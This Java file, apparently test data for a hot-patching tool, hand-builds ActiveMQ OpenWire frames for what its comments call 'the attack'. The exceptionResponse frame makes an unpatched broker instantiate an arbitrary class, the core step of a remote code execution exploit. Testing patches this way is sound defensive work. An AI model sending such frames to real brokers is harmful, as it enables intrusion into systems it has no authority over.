package dev.hotpatch.testdata.activemq.programs;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.io.IOException;

/** The few OpenWire frames (version 12, loose encoding) that the attack needs, written out by hand. */
final class OpenWire {
    static final int WIRE_FORMAT_INFO = 1;
    static final int KEEP_ALIVE_INFO = 10;
    static final int EXCEPTION_RESPONSE = 31;
    private static final int MAX_FRAME = 1 << 20;
    private static final int BOOLEAN = 1;
    private static final int LONG = 6;

    private OpenWire() {}

    /** Says which version we speak, and that frames stay in the simplest encoding. */
    static byte[] wireFormatInfo() throws IOException {
        ByteArrayOutputStream properties = new ByteArrayOutputStream();
        DataOutputStream map = new DataOutputStream(properties);
        map.writeInt(3);
        map.writeUTF("TightEncodingEnabled");
        map.writeByte(BOOLEAN);
        map.writeBoolean(false);
        map.writeUTF("MaxFrameSize");
        map.writeByte(LONG);
        map.writeLong(MAX_FRAME);
        map.writeUTF("MaxInactivityDuration");
        map.writeByte(LONG);
        map.writeLong(0);
        return frame(WIRE_FORMAT_INFO, body -> {
            body.writeBytes("ActiveMQ");
            body.writeInt(12);
            body.writeBoolean(true);
            body.writeInt(properties.size());
            properties.writeTo(body);
        });
    }

    /** A response that claims to carry an exception of any class; an unpatched receiver creates an object of that class. */
    static byte[] exceptionResponse(String className, String message) throws IOException {
        return frame(EXCEPTION_RESPONSE, body -> {
            body.writeInt(1);
            body.writeBoolean(false);
            body.writeInt(0);
            body.writeBoolean(true);
            body.writeBoolean(true);
            body.writeUTF(className);
            body.writeBoolean(true);
            body.writeUTF(message);
        });
    }

    /** Asks for a sign of life; the receiver handles frames in their order, so all that came before is done when it answers. */
    static byte[] keepAlive() throws IOException {
        return frame(KEEP_ALIVE_INFO, body -> {
            body.writeInt(2);
            body.writeBoolean(true);
        });
    }

    /** The type of the next frame that arrives; its content is skipped. */
    static int readType(DataInputStream in) throws IOException {
        int size = in.readInt();
        if (size < 1 || size > MAX_FRAME) {
            throw new IOException("the broker sent a frame of " + size + " bytes; expected 1 to " + MAX_FRAME);
        }
        int type = in.readUnsignedByte();
        in.skipNBytes(size - 1L);
        return type;
    }

    private static byte[] frame(int type, Body body) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        DataOutputStream out = new DataOutputStream(bytes);
        out.writeByte(type);
        body.write(out);
        ByteArrayOutputStream framed = new ByteArrayOutputStream();
        new DataOutputStream(framed).writeInt(bytes.size());
        bytes.writeTo(framed);
        return framed.toByteArray();
    }

    private interface Body {
        void write(DataOutputStream out) throws IOException;
    }
}
